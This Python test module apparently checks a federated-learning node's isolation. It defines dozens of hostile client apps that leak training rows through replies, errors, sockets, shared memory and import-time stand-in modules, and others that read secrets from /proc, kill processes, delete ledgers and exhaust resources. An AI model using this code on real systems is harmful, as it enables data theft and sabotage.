"""Apps that want data out of an operator's node, or to harm it: one way each.

What each is made of: the client's code below :data:`CLIENT`, the types of the messages that its
server sends, and other files of the app. ``leak(data)`` and the like try one way; whatever
happens, the reply is a trained model, or what the attack makes of it.
"""

from dataclasses import dataclass, field

PYPROJECT = """
[project]
name = "NAME"
version = "1.0.0"

[tool.flwr.app]
publisher = "stranger"

[tool.flwr.app.components]
serverapp = "hostile.server_app:app"
clientapp = "hostile.client_app:app"
"""

CLIENT = """
import atexit, ctypes, json, os, pickle, signal, socket, sqlite3, subprocess, sys, threading, time
from contextlib import suppress
from pathlib import Path

import numpy as np
from flwr.app import (
    Array, ArrayRecord, ConfigRecord, Context, Error, Message, MetricRecord, RecordDict,
)
from flwr.clientapp import ClientApp

AT = SINKS
app = ClientApp()


def rows(context):
    return Path(context.node_config["data-path"], "rows.csv").read_text()


def trained(message, context, step=1.0):
    model = {
        name: Array(np.asarray(array.numpy() + step, array.dtype))
        for name, array in message.content["arrays"].items()
    }
    metrics = MetricRecord({"num-examples": len(rows(context))})
    return Message(
        RecordDict({"arrays": ArrayRecord(model), "metrics": metrics}), reply_to=message
    )


def unix(name, data):
    with socket.socket(socket.AF_UNIX) as opened:
        opened.connect(name)
        opened.sendall(data.encode())


def tcp(data):
    with socket.create_connection(("127.0.0.1", AT["tcp"]), 2) as opened:
        opened.sendall(data.encode())


def out(data):
    Path(AT["folder"], f"{os.getpid()}-{time.monotonic_ns()}").write_text(data)


def everywhere(data):
    for way in (tcp, out):
        with suppress(Exception):
            way(data)


def does(leak):
    @app.train()
    def train(message, context):
        reply = trained(message, context)
        with suppress(Exception):
            leak(rows(context), context)
        return reply


def replies(change):
    @app.train()
    def train(message, context):
        return change(trained(message, context), rows(context), message, context)


"""

SERVER = """
import json, pickle, sys, time
from pathlib import Path

# The server is not attacked: what the app brings along for the node stays out of its way.
sys.path[:] = [entry for entry in sys.path if not Path(entry, "hostile").is_dir()]

from uuid import uuid4

import numpy as np
from flwr.app import Array, ArrayRecord, ConfigRecord, Message, RecordDict
from flwr.serverapp import ServerApp

from ldp_flower.guarantee.keys import HASH_END
from ldp_flower.guarantee.messages import Query
from ldp_flower.guarantee.questions import NormalisedUpdate
from ldp_flower.guarantee.training import with_query
from ldp_flower.randomizers import Codebook

app = ServerApp()
MODEL = {"weight": np.zeros((2, 2), np.float32), "bias": np.zeros(3)}


def seen(reply):
    if reply.has_error():
        return vars(reply.metadata), (reply.error.code, reply.error.reason), {}
    records = {
        name: {key: value if not isinstance(value, Array) else
               (value.dtype, tuple(value.shape), value.stype, value.data)
               for key, value in record.items()}
        for name, record in reply.content.items()
    }
    return vars(reply.metadata), None, records


def received_within(grid, messages, end):
    # Flower's own looks every 3 s only.
    waiting, replies = set(grid.push_messages(messages)), []
    while waiting and time.monotonic() < end:
        new = list(grid.pull_messages(waiting))
        replies += new
        waiting -= {reply.metadata.reply_to_message_id for reply in new}
        time.sleep(0.1)
    return replies


@app.main()
def main(grid, context):
    end = time.monotonic() + 60
    def asked():
        return [n for n in grid.get_node_ids() if NODE in (None, n) and n not in OTHERS]
    while not asked():
        assert time.monotonic() < end
        time.sleep(0.2)
    nodes, received, took = asked()[-1:], [], []
    for step, kind in enumerate(KINDS):
        query = Query(
            NormalisedUpdate(), Codebook(1.0, 7, num_codewords=8), uuid4().int % 2**32, 0,
            HASH_END, 1,
        )
        model = ArrayRecord({name: Array(array) for name, array in MODEL.items()})
        content = RecordDict({"arrays": model, "config": ConfigRecord({"lr": 0.1})})
        messages = [
            Message(with_query(content, query), dst_node_id=node, message_type=kind, group_id="7")
            for node in nodes
        ]
        started = time.monotonic()
        replies = received_within(grid, messages, started + TIMEOUT)
        took.append(time.monotonic() - started)
        received.append([seen(reply) for reply in replies])
    Path(OUTPUT + ".seconds").write_text(json.dumps(took))
    Path(OUTPUT).write_bytes(pickle.dumps(received))
"""


@dataclass(frozen=True)
class Attack:
    """One way out, or one harm."""

    client: str
    kinds: tuple[str, ...] = ("train",)
    files: dict[str, str] = field(default_factory=dict)


def reply(change, **more):
    return Attack(f"@replies\ndef change(reply, data, message, context):\n    {change}\n", **more)


def leak(way, **more):
    return Attack(f"@does\ndef leak(data, context):\n    {way}\n", **more)


HONEST = Attack("app.train()(trained)\n")
#: A module that stands in for an installed one, and takes what it can when it is imported.
STAND_IN = """
import os
from pathlib import Path

for folder in AT["data"]:
    for path in Path(folder).glob("*"):
        try:
            Path(AT["folder"], str(os.getpid())).write_bytes(path.read_bytes())
        except OSError:
            pass
"""
TWICE = ("train", "train")

ATTACKS = {
    # What a reply is made of.
    "rows in an array": reply(
        'reply.content["rows"] = ArrayRecord([np.frombuffer(data.encode(), np.uint8)]); '
        "return reply"
    ),
    "rows in the model": reply(
        'reply.content["arrays"]["bias"] = Array(np.frombuffer(data.encode()[:24])); return reply'
    ),
    "one more array of the model": reply(
        'reply.content["arrays"]["x"] = Array(np.array([data])); return reply'
    ),
    "a metric": reply('reply.content["metrics"]["sum"] = sum(data.encode()); return reply'),
    "a list of metrics": reply(
        'reply.content["metrics"]["all"] = list(data.encode()); return reply'
    ),
    "a config": reply('reply.content["c"] = ConfigRecord({"name": data}); return reply'),
    "a name of a record": reply("reply.content[data] = MetricRecord(); return reply"),
    "a name of a metric": reply('reply.content["metrics"][data] = 1; return reply'),
    "a public metric": reply(
        'reply.content["public-metrics"] = MetricRecord({"rows": len(data)}); return reply'
    ),
    "a report of its own": reply(
        'return Message(RecordDict({"arrays": ArrayRecord([np.frombuffer(data.encode(), "u1")]),'
        ' "config": ConfigRecord({"version": 1, "layout": data})}), reply_to=message)'
    ),
    "an exception": reply("raise ValueError(data)"),
    "an exception of another kind": reply("raise type(data, (BaseException,), {})(data)"),
    "an interrupt": reply("raise KeyboardInterrupt(data)"),
    "an error": reply("return Message(Error(2, data), reply_to=message)"),
    "the code of an error": reply(
        "return Message(Error(int(data.encode()[0]), ''), reply_to=message)"
    ),
    "the group": reply('reply.metadata.__dict__["_group_id"] = data; return reply'),
    "the time to live": reply(
        'reply.metadata.__dict__["_ttl"] = float(sum(data.encode())); return reply'
    ),
    "the date": reply('reply.metadata.__dict__["_created_at"] = 1.0; return reply'),
    "the message's own metadata": reply(
        'message.metadata.__dict__["_group_id"] = data; return trained(message, context)'
    ),
    "no reply": reply("return None"),
    "a huge reply": reply('reply.content["more"] = ArrayRecord([np.zeros(1 << 25)]); return reply'),
    "not finite": reply("return trained(message, context, np.nan)"),
    "whether it answers": reply("os._exit(1) if data else None; return reply"),
    "evaluation": Attack(
        "@app.evaluate()\n@app.query()\ndef tell(message, context):\n"
        '    told = RecordDict({"m": ConfigRecord({"x": rows(context)})})\n'
        "    return Message(told, reply_to=message)\n",
        kinds=("evaluate", "query"),
    ),
    "the context's state": reply(
        'kept = context.state.get("kept", ConfigRecord({"was": ""})); '
        'context.state["kept"] = ConfigRecord({"was": data}); '
        'reply.content["kept"] = kept; return reply',
        kinds=TWICE,
    ),
    "a second reply": reply(
        "from flwr.supernode.runtime import run_clientapp as flowers; "
        "plain = flowers.push_message; "
        "flowers.push_message = lambda client, reply, context: (plain(client, Message(RecordDict("
        '{"x": ConfigRecord({"data": data})}), reply_to=message), context), '
        "plain(client, reply, context)); return reply"
    ),
    "who replies": reply(
        '[reply.metadata.__dict__.update({f"_{name}": len(data)}) for name in '
        '("run_id", "src_node_id", "dst_node_id", "src_task_id")]; return reply'
    ),
    "what it replies to": reply(
        'reply.metadata.__dict__["_reply_to_message_id"] = data; return reply'
    ),
    "an exception that says it late": reply(
        'raise type("E", (Exception,), {"__str__": lambda _: data, "__repr__": lambda _: data})()'
    ),
    "content that is no content": reply(
        'reply.__dict__["_content"] = type("C", (), {"array_records": property('
        "lambda _: exec('raise ValueError(data)', {'data': data}))})(); return reply"
    ),
    "an array that lies about itself": reply(
        'reply.content["arrays"]["bias"].__dict__.update(shape=(len(data),), dtype="object", '
        "data=pickle.dumps(data)); return reply"
    ),
    "texts for numbers": reply(
        'reply.content["arrays"]["bias"] = Array(np.array([data] * 3)); return reply'
    ),
    "numbers of another machine": reply(
        'reply.content["arrays"]["bias"] = Array(np.array([np.inf, -0.0, 5e-324], ">f8")); '
        "return reply"
    ),
    "more than was asked for": reply(
        "import __main__; __main__._flat = lambda *_: np.frombuffer(data.encode() * 99, np.uint8);"
        ' reply.content["all"] = ConfigRecord({"x": data}); return reply'
    ),
    "a pickle": reply(
        "[os.write(n, pickle.dumps(data) * 9) for n in map(int, os.listdir('/proc/self/fd')) "
        "if 2 < n < 64 and os.path.exists(f'/proc/self/fd/{n}')]; os._exit(0)"
    ),
    "two processes that answer": reply(
        'os.fork() or reply.content["arrays"].update(x=Array(np.array([data]))); return reply'
    ),
    "closed descriptors": reply("os.closerange(0, 64) if data else None; return reply"),
    "its exit code": reply("os._exit(data.encode()[-1])"),
    "a crash": reply("os.abort() if data else None; return reply"),
    "a fault": reply("ctypes.string_at(len(data) - len(data)); return reply"),
    # Other ways out.
    "TCP": leak("tcp(data)"),
    "UDP": leak(
        "socket.socket(type=socket.SOCK_DGRAM).sendto(data.encode(), ('127.0.0.1', AT['udp']))"
    ),
    "DNS": leak(
        "socket.socket(type=socket.SOCK_DGRAM).sendto(bytes(5) + b'\\1' + bytes(6) + "
        "bytes([len(data)]) + data.encode() + bytes(4), ('127.0.0.1', AT['udp']))"
    ),
    "an abstract socket": leak("unix('\\0' + AT['abstract'], data)"),
    "a socket in a folder": leak("unix(AT['socket'], data)"),
    "a file": leak("out(data)"),
    "a file for the next round": reply(
        'path = Path("/tmp", AT["abstract"]); reply.content["old"] = ConfigRecord('
        '{"x": path.read_text() if path.exists() else ""}); path.write_text(data); return reply',
        kinds=TWICE,
    ),
    "shared memory": leak("Path('/dev/shm', AT['abstract']).write_text(data)"),
    "another program": leak(
        "subprocess.run([sys.executable, '-c', 'import sys, pathlib; '"
        "'pathlib.Path(sys.argv[1], \"x\").write_text(sys.argv[2])', AT['folder'], data])"
    ),
    "a thread that stays": leak(
        "threading.Thread(target=lambda: [(time.sleep(0.2), everywhere(data)) for _ in range(40)])"
        ".start()"
    ),
    "a process that stays": leak(
        "os.fork() or (os.setsid(), os.fork() and os._exit(0), time.sleep(3), everywhere(data), "
        "os._exit(0))"
    ),
    "at its end": leak("atexit.register(everywhere, data)"),
    "the lifespan": Attack(
        "app.train()(trained)\n\n@app.lifespan()\ndef life(context):\n"
        "    everywhere(rows(context))\n    yield\n    everywhere(rows(context))\n"
    ),
    "its import": Attack(
        'app.train()(trained)\nfor folder in AT["data"]:\n    with suppress(Exception):\n'
        '        everywhere(Path(folder, "rows.csv").read_text())\n'
    ),
    "a numpy of its own": Attack(
        "app.train()(trained)\n", files={"numpy.py": STAND_IN + "from flwr.app import *\n"}
    ),
    "a ldp_flower of its own": Attack(
        "import ldp_flower\napp.train()(trained)\n", files={"ldp_flower/__init__.py": STAND_IN}
    ),
    "a sitecustomize of its own": Attack(
        "import importlib; importlib.reload(__import__('sitecustomize'))\napp.train()(trained)\n",
        files={"sitecustomize.py": STAND_IN},
    ),
    "a queue for the next round": reply(
        "rt = ctypes.CDLL(None); name = ('/' + AT['abstract']).encode(); size = 64; "
        "q = rt.mq_open(name, os.O_RDWR | os.O_CREAT | os.O_NONBLOCK, 0o600, "
        "(ctypes.c_long * 8)(0, 1, size)); old = ctypes.create_string_buffer(size); "
        "rt.mq_receive(q, old, size, None); rt.mq_send(q, data.encode(), len(data), 0); "
        'reply.content["old"] = ConfigRecord({"x": old.value}); return reply',
        kinds=TWICE,
    ),
    "shared memory of System V": reply(
        "libc = ctypes.CDLL(None, use_errno=True); libc.shmat.restype = ctypes.c_void_p; "
        "key = libc.shmget(0x4711, 4096, 0o1666); at = libc.shmat(key, None, 0); "
        "old = ctypes.string_at(at); ctypes.memmove(at, data.encode() + b'\\0', len(data) + 1); "
        "libc.shmctl(key, 0, None) if old else None; "
        'reply.content["old"] = ConfigRecord({"x": old}); return reply',
        kinds=TWICE,
    ),
    "another root": leak("os.chroot('/'); out(data)"),
    "a program without a network of its own": leak(
        "subprocess.run(['unshare', '-r', sys.executable, '-c', 'import socket, sys; "
        'socket.create_connection(("127.0.0.1", int(sys.argv[1]))).sendall(b"out")\', '
        "str(AT['tcp'])])"
    ),
    "the operator's environment": leak("everywhere(os.environ['OPERATORS_SECRET'])"),
    "Flower's tokens": leak(
        "found = [p for p in Path('/proc').glob('[0-9]*/cmdline') if b'--token' in p.read_bytes()];"
        " out('seen') if found else None"
    ),
    "a device": leak(
        "os.mknod('/tmp/' + AT['abstract'], 0o20666, os.makedev(1, 5)); "
        "out(str(open('/tmp/' + AT['abstract'], 'rb').read(1)))"
    ),
    # The operator's own.
    "the ledger is kept busy": leak(
        "[os.fork() or ((c := sqlite3.connect(p)).execute('begin exclusive'), time.sleep(60), "
        "os._exit(0)) for p in AT['ledgers'] if os.path.exists(p)]; time.sleep(1)"
    ),
    "another name of the ledger": leak("[os.link(p, AT['data'][0] + '/l') for p in AT['ledgers']]"),
    "all processes of its group": leak("os.killpg(0, 9)"),
    "the ledger is removed": leak("[os.remove(p) for p in AT['ledgers']]"),
    "the ledger is written": leak(
        "[Path(p).write_bytes(b'') for p in AT['ledgers'] if Path(p).stat()]"
    ),
    "the ledger is emptied": leak(
        "[(c := sqlite3.connect(p), [c.execute(f'delete from {t}') for (t,) in c.execute("
        "\"select name from sqlite_master where type = 'table'\").fetchall()], c.commit())"
        " for p in AT['ledgers'] if os.path.exists(p)]"
    ),
    "the data are changed": leak("Path(AT['data'][0], 'rows.csv').write_text('nothing')"),
    "more data": leak("Path(AT['data'][0], 'more.csv').write_text(data)"),
    "the processes of others": leak(
        "found = [p for p in Path('/proc').glob('[0-9]*/environ') if os.access(p, os.R_OK) "
        "and b'OPERATORS_SECRET=' in p.read_bytes()]; out('seen') if found else None"
    ),
    "the SuperNode is killed": leak(
        "[os.kill(int(p.parent.name), 9) for p in Path('/proc').glob('[0-9]*/environ') "
        "if int(p.parent.name) != os.getpid() and AT['node'].encode() in p.read_bytes()]; "
        "os.kill(os.getpid(), 9)"
    ),
    "a trace of its parent": leak(
        "ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0); time.sleep(0.5); "
        "out('traced') if 'TracerPid:\\t' + str(os.getpid()) in "
        "Path('/proc', str(os.getppid()), 'status').read_text() else None"
    ),
    "the root of its parent": leak(
        "Path('/proc', str(os.getppid()), 'root' + AT['folder'], 'x').write_text(data)"
    ),
    "every descriptor": leak(
        "[(os.write(int(n), data.encode() * 64)) for n in os.listdir('/proc/self/fd') "
        "if int(n) > 2]; out(data)"
    ),
    # The machine.
    "many processes": leak(
        "[os.fork() or os.execvp('sleep', ['sleep', AT['sleep']]) for _ in range(700)]"
    ),
    "much memory": leak("out(str(len([b'x' * (1 << 28) for _ in range(12)])))"),
    "a full disk": leak(
        "[open(f'/tmp/{AT[\"abstract\"]}-{i}', 'wb').write(bytes(1 << 28)) for i in range(5)]; "
        "out(data)"
    ),
    "it never ends": leak("time.sleep(3600)"),
    "it never ends and ignores signals": leak(
        "[signal.signal(n, signal.SIG_IGN) for n in (1, 2, 13, 14, 15)]; out(data); "
        "time.sleep(3600)"
    ),
    "it stops": leak("os.kill(os.getpid(), signal.SIGSTOP)"),
    "a flood of output": leak("[os.write(2, data.encode() * 4096) for _ in range(4096)]"),
    "a loop": leak("exec('while True: pass')"),
}
